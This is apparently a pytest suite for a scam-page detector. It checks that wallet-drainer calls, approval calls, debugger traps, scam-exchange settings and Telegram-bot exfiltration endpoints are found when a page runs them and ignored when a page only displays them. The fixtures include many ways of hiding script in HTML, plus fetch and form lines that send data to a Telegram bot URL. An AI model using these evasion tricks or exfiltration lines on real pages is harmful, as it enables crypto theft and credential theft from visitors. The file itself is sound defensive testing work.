"""Code that a page shows is not run; code that it runs is found however it is written."""

from html import escape
from urllib.parse import quote

import pytest

from scamtriage.parse.html.page import read_page
from scamtriage.records.facts import PageFacts
from tests.cost import least_cpu_s

CALL = "nft.setApprovalForAll(op,true)"
SCRIPT = f"<script>{CALL}</script>"


def read(source: str, kind: str = "text/html") -> PageFacts:
    return read_page(body=source.encode(), content_type=kind, url="https://a.test/", host="a.test", suffix="test")[0]


def calls(source: str, kind: str = "text/html") -> tuple[str, ...]:
    return read(source, kind).wallet_calls


@pytest.mark.parametrize(
    "source",
    [
        SCRIPT,
        f"<SCRIPT type=module>\n{CALL}",
        f"<script data-end='</script>'>{CALL}</script>",
        f"<script>'</script-x>';{CALL}</script>",
        f"<script>'</scripts>';{CALL}</script>",
        f"<script><!-- '<script>' </script> {CALL} --></script>",
        f"<!-- > --><script>{CALL}</script><!-- </script> -->",
        f"<!-- <script> </script> --><script/x>{CALL}</script>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><script><![CDATA[{CALL}]]></script></svg>",
        f"<svg><SCRIPT>a();<b>x</b>{CALL}</SCRIPT></svg>",
        f"<textarea><script></textarea><pre></pre><script>{CALL}</script>",
        f'<button onclick="if(a<b){{{CALL}}}">',
        f'<button onclick="{"a();" * 200}{CALL}">',
        f"<button onclick={CALL}>",
        f"<button onclick=&quot;x&quot;;{CALL}>",
        f"<div onwebkitanimationiteration='{CALL}'>",
        f"<a href='javascript:{CALL}'>",
        f"<a href='JavaScript:{'void(0);' * 100}{CALL}'>",
        f'<iframe srcdoc="{escape(SCRIPT)}"></iframe>',
        f"<iframe srcdoc='{SCRIPT}'></iframe>",
        f'<iframe src="data:text/html,{quote(SCRIPT)}"></iframe>',
        f"<p>{CALL}</p>" * 60 + SCRIPT,
        f"<pre>{'eth_sign ' * 7_000}</pre>{SCRIPT}",
        f"<title><script></title><p>x</p>{SCRIPT}",
        "<i>" * 400_000 + SCRIPT,
    ],
)
def test_what_runs_is_found(source: str) -> None:
    assert "setApprovalForAll" in calls(f"<!doctype html>{source}")


@pytest.mark.parametrize("named", ["'approve(address,uint256)'", '"approve(address, uint256)"', "'approve'", ".approve("])
def test_an_approval_is_found_by_its_name_and_by_its_signature(named: str) -> None:
    source = f"<script>const usdt = 'T'; tronWeb.transactionBuilder.triggerSmartContract(usdt, {named}, {{}}, [], me)</script>"
    assert "approve" in calls(source)


def test_a_script_of_xml_runs() -> None:
    page = (
        f'<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml"><body><h:script>{CALL}</h:script></body></html>'
    )
    assert calls(page, "application/xhtml+xml") == ("setApprovalForAll",)


@pytest.mark.parametrize(
    "source",
    [
        f"<p>Drainers call <code>{CALL}</code></p>",
        f"<script src=a.js></script><pre>{CALL}</pre><script>b()</script>",
        f"<pre>{escape(SCRIPT)}</pre>",
        f"<textarea>{SCRIPT}</textarea>",
        f"<!-- {SCRIPT} --><p>news</p>",
        f'<p>The handler was onclick="{CALL}", they say.</p>',
        f"<!-- <script> --><pre>{CALL}</pre>",
        f"<svg><script href=a.js /><text>{CALL}</text></svg>",
        f"<title>{CALL}</title>",
    ],
)
def test_what_is_shown_is_no_call(source: str) -> None:
    assert calls(f"<!doctype html>{source}") == ()


@pytest.mark.parametrize(
    "seed", ["<script", "<script ", "<script>", "<script></script>", "<i>", "<!--", "<a onclick='eth_sign", "<svg><script/>", "</script"]
)
def test_floods_cost_little(seed: str) -> None:
    plain, hostile = (f"<script>{word}</script>" + seed * (2_000_000 // len(seed)) for word in ("nothing", CALL))
    calls(SCRIPT)
    before = least_cpu_s(lambda: calls(plain), within=4)
    assert least_cpu_s(lambda: calls(hostile), within=before + 1.5) <= before + 1.5


TRAP = "setInterval(function(){debugger},100)"


@pytest.mark.parametrize(
    "shown",
    [
        f"<pre>{escape('<script>' + TRAP + '</script>')}</pre>",
        f"<textarea><script>{TRAP}</script></textarea>",
        f"<!-- <script>{TRAP}</script> -->",
        f'<script type="application/json">{{"a":"{TRAP}"}}</script>',
        f"<script type='text/template'>{TRAP}</script>",
        f"<script type=application/ld+json>{TRAP}</script>",
    ],
)
def test_a_trap_that_is_only_shown_is_no_deed_of_the_page(shown: str) -> None:
    def deeds(source: str) -> tuple[str, ...]:
        return read(source).behaviours

    assert deeds(shown) == ()
    assert deeds(shown + f"<script type=text/javascript>{TRAP}</script>") == ("debugger-timer",)
    assert deeds(f"<script type=b1f2-text/javascript>{TRAP}</script>") == ("debugger-timer",)


SETTING, SAID = (
    '{"withdrawal_locked": 1}',
    "Don't pay any tax before withdrawal! \"60秒合约\" is how they say it, 'tax before withdrawals' too.",
)


@pytest.mark.parametrize(
    "source",
    [
        f"<script>const s = {SETTING}</script>",
        f"<script type=application/json>{SETTING}</script>",
        f"<div data-page='{SETTING}'></div>",
        f"<iframe srcdoc='<script>s={escape(SETTING)}</script>'></iframe>",
        "<script>say('You have to pay tax before withdrawal')</script>",
        "<script>menu = '<b>60秒合约</b>'</script>",
        "<!-- 60秒合约 -->",
        f"<p>{SAID}</p><script>s={SETTING}</script>",
    ],
)
def test_settings_stand_in_what_programs_hold(source: str) -> None:
    assert {"withdrawal-locked", "seconds-contracts"} & {*read(f"<!doctype html>{source}").behaviours}


@pytest.mark.parametrize(
    "source", [f"<p>{SAID}</p>", f"<pre>{SETTING}</pre>", f"<p class='a'>{SAID}</p><script>say('tax')</script>", f"<title>{SAID}</title>"]
)
def test_words_that_visitors_read_are_no_settings_of_scripts(source: str) -> None:
    """An apostrophe before them made a bank's warning the settings of an exchange."""
    assert read(f"<!doctype html>{source}").behaviours == ()


BOT = "https://api.telegram.org/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0/sendMessage"


@pytest.mark.parametrize(
    "source",
    [
        f"<script>fetch('{BOT}')</script>",
        f"<form action='{BOT}'><input name=q></form>",
        f"<script type=application/json>{{'url': '{BOT}'}}</script>",
        f"<button onclick=\"post('{BOT}')\">",
        f"<? $url = '{BOT}'; ?>",
        f"<?php if ($a->b) $url = '{BOT}'; ?>",
        f"<div hidden id=s>fetch('{BOT}')</div><p>Log in.</p><script>eval(s.textContent)</script>",
        f"<script>document.write(\"<form action='{BOT}'></form>\")</script>",
        f"<iframe srcdoc='{escape(f'<script>fetch({BOT!r})</script>')}'></iframe>",
    ],
)
def test_a_bot_to_which_a_page_can_send_is_found(source: str) -> None:
    assert read(f"<!doctype html>{source}").exfil == ("telegram-bot",)


@pytest.mark.parametrize("tag", ["pre", "p", "code", "textarea"])
def test_a_bot_that_is_only_shown_gets_nothing(tag: str) -> None:
    """A lesson with a place for comments was accused of sending its readers' passwords there."""
    assert read(f"<!doctype html><{tag}>fetch('{BOT}')</{tag}>").exfil == ()
